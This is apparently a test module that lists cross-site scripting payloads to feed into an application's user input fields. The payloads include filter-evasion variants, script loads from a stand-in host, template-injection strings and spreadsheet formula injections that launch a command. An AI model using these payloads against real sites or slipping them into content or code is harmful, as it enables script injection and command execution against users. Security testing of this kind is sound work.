"""Cross-site scripting payloads fed into every field a member or a resident can fill.

In the style of the OWASP XSS Filter Evasion Cheat Sheet
(cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html): plain script
tags, event handlers, javascript:/vbscript:/data: URLs hidden behind entities, whitespace,
control characters and mixed case, quotes that break out of an attribute or a tag, SVG and
MathML namespace tricks, CSS expressions, template-looking strings and spreadsheet formulas
(the exports take the same text). Each payload is short enough for a 100-character title.
"""

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<script/xss src=//xss.example/a.js></script>",
    "<<script>alert(2);//<</script>",
    "<script>alert(3)//",
    '"><script>alert(4)</script>',
    "'><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "</title><script>alert(7)</script>",
    "</script><script>alert(8)</script>",
    "<scr<script>ipt>alert(9)</scr</script>ipt>",
    # event handlers
    "<img src=x onerror=alert(10)>",
    "<IMG SRC=x OnErRoR=alert(11)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(12)>",
    '<img """><script>alert(13)</script>">',
    "<img/src=x/onerror=alert(14)>",
    "<svg onload=alert(15)>",
    "<svg/onload=alert(16)//",
    "<body onload=alert(17)>",
    "<details open ontoggle=alert(18)>",
    "<input autofocus onfocus=alert(19)>",
    "<video><source onerror=alert(20)></video>",
    "<marquee onstart=alert(21)>x</marquee>",
    "' onmouseover='alert(22)' x='",
    '" onmouseover="alert(23)" x="',
    '" autofocus onfocus="alert(24)',
    "<div style=\"x\" onclick='alert(25)'>x</div>",
    # javascript:, vbscript: and data: URLs, plain and disguised
    '<a href="javascript:alert(26)">点我</a>',
    '<a href="JaVaScRiPt:alert(27)">点我</a>',
    '<a href="jav&#x09;ascript:alert(28)">点我</a>',
    '<a href="jav\tascript:alert(29)">点我</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(30)">x</a>',
    '<a href=" &#14; javascript:alert(31)">点我</a>',
    '<a href="vbscript:msgbox(32)">点我</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMyk8L3NjcmlwdD4=">点我</a>',
    '<img src="javascript:alert(34)">',
    "[点我](javascript:alert(35))",
    "[点我](jav&#x09;ascript:alert(36))",
    "![x](x onerror=alert(37))",
    '<form action="javascript:alert(38)"><button>提交</button></form>',
    '<button formaction="javascript:alert(39)">x</button>',
    '<svg><a xlink:href="javascript:alert(40)"><text y="20">x</text></a></svg>',
    # frames, objects, base
    '<iframe srcdoc="&lt;script&gt;alert(41)&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:alert(42)"></iframe>',
    '<object data="data:text/html,<script>alert(43)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(44)>">',
    '<base href="javascript:alert(45)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(46)">',
    # namespace and raw-text element tricks
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(47)>",
    "<svg><style><img src=x onerror=alert(48)></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(49)>">',
    "<style>@import 'javascript:alert(50)';</style>",
    "<math href=javascript:alert(51)>x</math>",
    # CSS
    '<div style="width: expression(alert(52))">x</div>',
    '<div style="background:url(javascript:alert(53))">x</div>',
    '<p style="x:ex/**/pression(alert(54))">x</p>',
    # null bytes, comments and encodings
    "<scr\x00ipt>alert(55)</scr\x00ipt>",
    "<img src=x on\x00error=alert(56)>",
    '<!--<img src="--><img src=x onerror=alert(57)//">',
    "%3Cscript%3Ealert(58)%3C/script%3E",
    "&lt;script&gt;alert(59)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(60)\\u003c/script\\u003e",
    # template-looking and spreadsheet-looking text
    "{{ request.user.password }}{% debug %}",
    "${alert(61)}<%= 7*7 %>",
    '=HYPERLINK("http://xss.example","点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
]
